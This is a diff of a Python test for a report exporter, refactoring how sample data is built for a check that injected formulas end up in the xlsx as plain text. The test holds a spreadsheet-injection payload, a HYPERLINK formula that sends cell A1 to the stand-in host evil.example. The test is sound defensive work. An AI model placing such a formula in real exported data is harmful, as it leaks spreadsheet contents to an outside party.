@@ -194,13 +194,11 @@ def test_formula_text_reaches_the_xlsx_as_text(tmp_path: Path):
     from openpyxl import load_workbook
 
     from apps.report.export import write_files
-    from apps.report.monthly import build_monthly_report
     from apps.report.sample import generate
     from haocha.adapters.calendar_cn import ChineseWorkingCalendar
     from haocha.domain.directory import Directory
-    from haocha.domain.tickets import fold_all
     from haocha.settings import PACKAGE_DATA
-    from sinks.clickhouse import ClickHouseStore
+    from tests.support.sample_store import sample_report
 
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
     raw = json.loads((PACKAGE_DATA / "directory.json").read_text(encoding="utf-8"))
@@ -208,16 +206,8 @@ def test_formula_text_reaches_the_xlsx_as_text(tmp_path: Path):
         d["name"] = hostile if d is raw["departments"][0] else "@" + d["name"]
     (tmp_path / "directory.json").write_text(json.dumps(raw, ensure_ascii=False), encoding="utf-8")
     directory, cal = Directory.load(tmp_path / "directory.json"), ChineseWorkingCalendar()
-    sample = generate(directory, cal, n=200, seed=5)
-    store = ClickHouseStore(f"chdb://{tmp_path / 'chdb'}", "haocha_hostile")
-    try:
-        store.migrate()
-        store.write_reviews(sample.reviews)
-        store.write_ticket_events(sample.all_events)
-        store.write_ticket_states([fold_all(e).model_dump(mode="json") for e in sample.events.values()])
-        rep = build_monthly_report(store, "2021-05", datetime(2021, 6, 3, 9, 30, tzinfo=UTC), directory, cal)
-    finally:
-        store.close()
+    as_of = datetime(2021, 6, 3, 9, 30, tzinfo=UTC)
+    rep = sample_report(tmp_path / "chdb", "haocha_hostile", generate(directory, cal, n=200, seed=5), as_of, directory, cal)
     (path,) = write_files(rep, ["xlsx"], tmp_path / "out")
     wb = load_workbook(io.BytesIO(Path(path).read_bytes()))
     cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
